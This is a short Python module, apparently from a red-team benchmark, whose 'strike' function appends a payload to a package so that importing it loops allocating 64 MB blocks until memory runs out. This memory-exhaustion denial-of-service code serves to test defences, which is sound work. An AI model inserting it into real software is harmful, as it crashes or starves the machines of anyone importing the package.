"""The import of the package takes all memory that there is."""

from bench.redteam.view import View

CODE = """
_held = []
while True:
    try:
        _held.append(bytearray(64 << 20))
    except MemoryError:
        if len(_held) > 1:
            _held.append(_held)
            raise
"""


def strike(view: View) -> None:
    view.append(CODE)
